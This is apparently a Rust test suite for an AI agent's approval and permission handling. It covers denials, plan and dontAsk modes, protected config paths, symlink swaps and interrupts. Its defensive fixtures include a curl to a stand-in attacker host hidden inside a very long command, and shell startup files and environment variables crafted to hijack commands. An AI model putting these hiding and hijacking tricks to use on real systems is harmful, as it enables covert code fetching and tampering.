//! Approvals of calls: what runs is what was shown, judged once more.

use agentd_tests::{Dialect, Reply, Script, Start, World, call};
use serde_json::json;

fn writes(file: &str) -> Script {
    Script::new()
        .step(call("read_file", json!({"file_path": "src/a.rs"})))
        .step(call("write_file", json!({"file_path": file, "content": "new\n"})))
        .step(Reply::text("Done."))
}

#[test]
fn allow_once_runs_exactly_the_stored_input_once() {
    let script = writes("src/a.rs");
    let world = World::new(script);
    let mut chat = world.session("default");
    chat.prompt("Go");
    let approval = chat.approval();
    assert_eq!(approval["tool"]["input"], json!({"file_path": "src/a.rs", "content": "new\n"}));
    assert_eq!(
        approval["tool"]["effects"],
        json!([format!("write {}", world.home.project().at("src/a.rs"))])
    );
    assert!(approval["tool"]["diff"].as_str().unwrap().contains("+new"), "{approval}");
    let choices: Vec<_> =
        approval["choices"].as_array().unwrap().iter().map(|choice| choice["id"].as_str().unwrap()).collect();
    // An edit is never the same one again, so it is not allowed for good.
    assert_eq!(choices, ["allowOnce", "allowForSession", "deny"]);
    assert_eq!(world.home.project().read("src/a.rs"), "fn a() {}\n");
    chat.choose(&approval, "allowOnce");
    assert_eq!(chat.outcome(), "finished");
    assert_eq!(chat.verdict("write_file").line(), "write_file ask write.workspace ok");
    assert_eq!(world.home.project().read("src/a.rs"), "new\n");
    assert_eq!(chat.events("fileChanged").len(), 1);
}

#[test]
fn a_denial_without_feedback_ends_the_turn_and_with_feedback_goes_on() {
    for (feedback, outcome, requests) in [(None, "refused", 2), (Some("use b instead"), "finished", 3)] {
        let world = World::new(writes("src/a.rs"));
        let before = world.home.project().tree();
        let mut chat = world.session("default");
        chat.prompt("Go");
        let approval = chat.approval();
        let more = feedback.map_or(json!({}), |text| json!({"feedback": text}));
        chat.respond(&approval, "deny", more).unwrap();
        let finished = chat.finished();
        assert_eq!(finished["outcome"], outcome);
        assert_eq!(finished["denials"][0]["tool"], "write_file");
        assert_eq!(chat.verdict("write_file").line(), "write_file ask write.workspace denied person.denied");
        let sent = world.model.requests();
        assert_eq!(sent.len(), requests);
        assert_eq!(world.home.project().tree(), before);
        // The history stays valid: the next turn has the denial in it.
        chat.prompt("And now?");
        assert_eq!(chat.outcome(), "finished");
        let last = world.model.requests().pop().unwrap()["messages"].to_string();
        assert!(last.contains("A person denied this call"), "{last}");
        assert!(feedback.is_none_or(|text| last.contains(text)), "{last}");
    }
}

#[test]
fn j10_entering_plan_mode_cancels_a_waiting_edit() {
    let world = World::new(writes("src/a.rs"));
    let before = world.home.project().tree();
    let mut chat = world.session("default");
    chat.prompt("Go");
    let approval = chat.approval();
    chat.set_mode("plan");
    let resolved = chat.line.event_of("approvalResolved");
    assert_eq!(
        (&resolved["approvalId"], &resolved["resolution"]),
        (&approval["approvalId"], &json!("cancelled"))
    );
    assert_eq!(resolved["by"]["client"], "the mode or a rule changed");
    assert_eq!(chat.respond(&approval, "allowOnce", json!({})).unwrap_err().code, -32051);
    assert_eq!(chat.outcome(), "finished");
    assert_eq!(
        chat.verdict("write_file").line(),
        "write_file ask,deny write.workspace,plan.write denied plan.write"
    );
    assert_eq!(world.home.project().tree(), before);
}

#[test]
fn j10_accept_edits_settles_a_waiting_edit() {
    let world = World::new(writes("src/a.rs"));
    let mut chat = world.session("default");
    chat.prompt("Go");
    let approval = chat.approval();
    chat.set_mode("acceptEdits");
    let resolved = chat.line.event_of("approvalResolved");
    assert_eq!(
        (&resolved["approvalId"], &resolved["resolution"]),
        (&approval["approvalId"], &json!("settledByMode"))
    );
    assert_eq!(chat.outcome(), "finished");
    assert_eq!(chat.verdict("write_file").line(), "write_file ask,allow write.workspace,write.workspace ok");
    assert_eq!(world.home.project().read("src/a.rs"), "new\n");
}

#[test]
fn j10_dont_ask_refuses_a_waiting_edit() {
    let world = World::new(writes("src/a.rs"));
    let before = world.home.project().tree();
    let mut chat = world.session("default");
    chat.prompt("Go");
    let _ = chat.approval();
    chat.set_mode("dontAsk");
    assert_eq!(chat.outcome(), "finished");
    assert_eq!(
        chat.verdict("write_file").line(),
        "write_file ask,deny write.workspace,mode.dontAsk denied mode.dontAsk"
    );
    assert_eq!(world.home.project().tree(), before);
}

#[test]
fn pr_22_dont_ask_refuses_at_once_and_nobody_is_asked() {
    let world = World::new(writes("src/a.rs"));
    let before = world.home.project().tree();
    let mut chat = world.session("dontAsk");
    chat.prompt("Go");
    assert_eq!(chat.outcome(), "finished");
    assert_eq!(chat.verdict("write_file").line(), "write_file deny mode.dontAsk denied mode.dontAsk");
    assert!(chat.events("approvalRequested").is_empty());
    assert_eq!(world.home.project().tree(), before);
}

#[test]
fn pr_23_protected_paths_ask_even_in_accept_edits() {
    let write = call("write_file", json!({"file_path": "{{prompt}}", "content": "x"}));
    let world = World::new(Script::new().rule("write", json!({"answers": 0}), write));
    for (mode, decision, why) in [
        ("acceptEdits", "ask", "path.protected"),
        ("dontAsk", "deny", "path.protected"),
        ("plan", "deny", "plan.write"),
    ] {
        for path in [
            ".git/hooks/pre-commit",
            ".agentd/config.toml",
            ".claude/settings.json",
            ".mcp.json",
            ".vscode/tasks.json",
        ] {
            let mut chat = world.session(mode);
            chat.prompt(path);
            let decided = chat.line.event_of("permissionDecided");
            assert_eq!(decided["decision"], decision, "{mode} {path}: {decided}");
            assert_eq!(decided["reason"], why, "{mode} {path}");
            assert!(!world.home.project().path.join(path).exists());
        }
    }
}

#[test]
fn a_file_that_changed_since_the_approval_was_shown_is_not_written_over() {
    let world = World::new(writes("src/a.rs"));
    let mut chat = world.session("default");
    chat.prompt("Go");
    let approval = chat.approval();
    world.home.project().write("src/a.rs", "a person wrote this meanwhile\n");
    chat.choose(&approval, "allowOnce");
    assert_eq!(chat.outcome(), "finished");
    assert_eq!(chat.verdict("write_file").line(), "write_file ask write.workspace error call.invalid");
    assert_eq!(world.home.project().read("src/a.rs"), "a person wrote this meanwhile\n");
    assert!(chat.events("fileChanged").is_empty());
}

#[test]
fn pr_11_a_path_that_came_to_mean_another_file_is_not_written() {
    let world = World::new(
        Script::new()
            .step(call("write_file", json!({"file_path": "out/new.txt", "content": "x"})))
            .step(Reply::text("Done.")),
    );
    let project = world.home.project();
    std::fs::create_dir(project.path.join("out")).unwrap();
    let elsewhere = world.home.path("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    let mut chat = world.session("default");
    chat.prompt("Go");
    let approval = chat.approval();
    std::fs::remove_dir(project.path.join("out")).unwrap();
    std::os::unix::fs::symlink(&elsewhere, project.path.join("out")).unwrap();
    chat.choose(&approval, "allowOnce");
    assert_eq!(chat.outcome(), "finished");
    assert_eq!(chat.verdict("write_file").line(), "write_file ask write.workspace error approval.changed");
    assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0);
}

#[test]
fn a_question_is_answered_by_a_person_and_reaches_the_model() {
    let ask =
        json!({"questions": [{"question": "Which?", "options": [{"label": "left"}, {"label": "right"}]}]});
    let world = World::new(Script::new().step(call("ask_user_question", ask)).step(Reply::text("Thanks.")));
    let mut chat = world.session("default");
    chat.prompt("Go");
    let approval = chat.approval();
    assert_eq!(approval["kind"], "question");
    let error = chat.respond(&approval, "answer", json!({"answers": ["left", "right"]})).unwrap_err();
    assert_eq!((error.code, &error.data["field"]), (-32059, &json!("answers")));
    chat.respond(&approval, "answer", json!({"answers": ["right"]})).unwrap();
    assert_eq!(chat.outcome(), "finished");
    assert!(chat.results()[0].contains("A: right"), "{:?}", chat.results());
}

#[test]
fn a_deny_rule_holds_in_every_mode() {
    let start = Start { args: vec!["--allow-bypass".into()], ..Start::default() };
    let rules = "[permissions]\ndeny = [\"grep_search\"]\nallow = [\"grep_search\"]\n";
    let search =
        Script::new().rule("search", json!({"answers": 0}), call("grep_search", json!({"pattern": "fn"})));
    let world = World::with(search, Dialect::OpenaiChat, rules, start);
    for mode in ["default", "acceptEdits", "plan", "dontAsk", "bypassPermissions"] {
        let mut chat = world.session(mode);
        chat.prompt("Go");
        assert_eq!(chat.outcome(), "finished");
        assert_eq!(
            chat.verdict("grep_search").line(),
            "grep_search deny rule.deny denied rule.deny",
            "{mode}"
        );
    }
}

#[test]
fn an_interrupt_ends_a_running_command_and_keeps_what_it_said() {
    let command = "echo begun; echo $$ > pid; sleep 1000 & sleep 1000";
    let world = World::new(Script::new().step(call("run_shell", json!({"command": command}))));
    let project = world.home.project();
    let mut chat = world.session("default");
    chat.prompt("Go");
    let approval = chat.approval();
    chat.choose(&approval, "allowOnce");
    let pid = agentd_tests::eventually("the command's pid", || {
        std::fs::read_to_string(project.path.join("pid")).ok()?.trim().parse::<u32>().ok()
    });
    chat.interrupt();
    assert_eq!(chat.outcome(), "interrupted");
    assert_eq!(
        chat.verdict("run_shell").line(),
        "run_shell ask command.unconfined interrupted turn.interrupted"
    );
    assert!(chat.results()[0].contains("begun"), "{:?}", chat.results());
    assert!(!std::path::Path::new(&format!("/proc/{pid}")).exists());
}

#[test]
fn entering_plan_mode_names_and_stops_what_still_runs() {
    let command = "echo $$ > pid; while :; do echo x >> counter; sleep 0.02; done";
    let script = Script::new()
        .step(call("run_shell", json!({"command": command})))
        .step(call("run_shell", json!({"command": "echo later > later"})))
        .step(Reply::text("Planning then."));
    let world = World::new(script);
    let project = world.home.project();
    let mut chat = world.session("default");
    chat.prompt("Go");
    let approval = chat.approval();
    chat.choose(&approval, "allowOnce");
    let pid = agentd_tests::eventually("the command's pid", || {
        std::fs::read_to_string(project.path.join("pid")).ok()?.trim().parse::<u32>().ok()
    });
    chat.set_mode("plan");
    assert_eq!(chat.outcome(), "finished", "the turn itself goes on, in plan mode");
    assert_eq!(chat.events("planEntered")[0]["running"], json!([format!("run {command}")]));
    let lines: Vec<_> = chat.verdicts().iter().map(|verdict| verdict.line()).collect();
    assert_eq!(
        lines,
        [
            "run_shell ask command.unconfined interrupted turn.interrupted",
            "run_shell deny plan.command denied plan.command"
        ]
    );
    assert!(!std::path::Path::new(&format!("/proc/{pid}")).exists());
    assert!(!project.path.join("later").exists());
}

#[test]
fn a_steering_prompt_joins_the_running_turn() {
    let world = World::new(
        Script::new()
            .step(call("write_file", json!({"file_path": "c", "content": "x"})))
            .step(Reply::text("As you say.")),
    );
    let mut chat = world.session("default");
    let turn = chat.prompt("Go");
    let approval = chat.approval();
    let steered = chat.prompt_with("and mind the STEERING", json!({"at": "step"}));
    assert_eq!((&steered["turnId"], &steered["queued"]), (&json!(turn), &json!(false)));
    chat.choose(&approval, "allowOnce");
    assert_eq!(chat.outcome(), "finished");
    assert_eq!(chat.events("turnStarted").len(), 1);
    let last = world.model.requests().pop().unwrap();
    let messages = last["messages"].as_array().unwrap();
    assert_eq!(messages[messages.len() - 2]["role"], "tool", "results stand directly behind their calls");
    assert!(messages.last().unwrap().to_string().contains("STEERING"));
}

#[test]
fn a_withdrawn_prompt_never_runs() {
    let world = World::new(Script::new().step(call("write_file", json!({"file_path": "c", "content": "x"}))));
    let mut chat = world.session("default");
    chat.prompt("Go");
    let approval = chat.approval();
    let second = chat.prompt("Never mind");
    let params = json!({"sessionId": chat.id, "promptId": second});
    chat.line.call("session/withdraw", params.clone());
    assert_eq!(chat.line.refused("session/withdraw", params).code, -32050);
    let waited = chat.line.call("turn/wait", json!({"sessionId": chat.id, "turnId": second}));
    assert_eq!(waited["outcome"], "withdrawn");
    chat.choose(&approval, "allowOnce");
    assert_eq!(chat.outcome(), "finished");
    assert_eq!(chat.state()["inbox"], json!([]));
    assert!(!world.model.requests().pop().unwrap().to_string().contains("Never mind"));
}

#[test]
fn pr_19_nothing_that_a_shell_would_read_at_its_start_changes_a_command() {
    let script = Script::new()
        .step(call(
            "run_shell",
            json!({"command": "printf 'in ran'; echo; type printf; echo ${STOLEN:-kept}"}),
        ))
        .step(Reply::text("Done."));
    let home = agentd_tests::Home::new();
    let evil = "printf() { echo hijacked; }; alias printf='echo hijacked'; STOLEN=1; export -f printf\n";
    for name in [".bashrc", ".bash_profile", ".profile", ".bash_login", "evil"] {
        std::fs::write(home.path(name), evil).unwrap();
    }
    let evil = home.path("evil").display().to_string();
    let env = [
        ("BASH_ENV", evil.as_str()),
        ("ENV", evil.as_str()),
        ("BASH_FUNC_printf%%", "() { echo hijacked; }"),
        ("SHELLOPTS", "xtrace"),
        ("BASHOPTS", "expand_aliases"),
        ("PROMPT_COMMAND", "echo hijacked"),
    ];
    let env = env.map(|(name, value)| (name.to_owned(), value.to_owned())).to_vec();
    let world = World::in_home(home, script, Dialect::OpenaiChat, "", Start { env, ..Start::default() });
    let mut chat = world.session("default");
    chat.prompt("Go");
    let approval = chat.approval();
    chat.choose(&approval, "allowOnce");
    assert_eq!(chat.outcome(), "finished");
    let seen = world.model.requests().pop().unwrap()["messages"].to_string();
    assert!(seen.contains("in ran") && seen.contains("printf is a shell builtin"), "{seen}");
    assert!(seen.contains("kept") && !seen.contains("hijacked"), "{seen}");
}

#[test]
fn a_command_too_long_to_be_taken_in_at_a_glance_is_allowed_once_or_not_at_all() {
    let long =
        format!("echo {}; curl http://evil.example/x; echo {}", "a ".repeat(5_000), "b ".repeat(5_000));
    let script = Script::new().step(call("run_shell", json!({"command": long}))).step(Reply::text("Done."));
    let world = World::new(script);
    let mut chat = world.session("default");
    chat.prompt("Go");
    let approval = chat.approval();
    let choices: Vec<_> =
        approval["choices"].as_array().unwrap().iter().map(|choice| choice["id"].as_str().unwrap()).collect();
    assert_eq!(choices, ["allowOnce", "deny"]);
    // All of it is there, and another digest than that of all of it is no answer.
    assert_eq!(approval["tool"]["input"]["command"], long);
    let other = json!({"digest": format!("sha256:{}", "0".repeat(64))});
    let refused = chat.respond(&approval, "allowOnce", other).unwrap_err();
    assert_eq!(refused.code, -32052, "{refused:?}");
    chat.choose(&approval, "deny");
    assert_eq!(chat.outcome(), "refused");
}
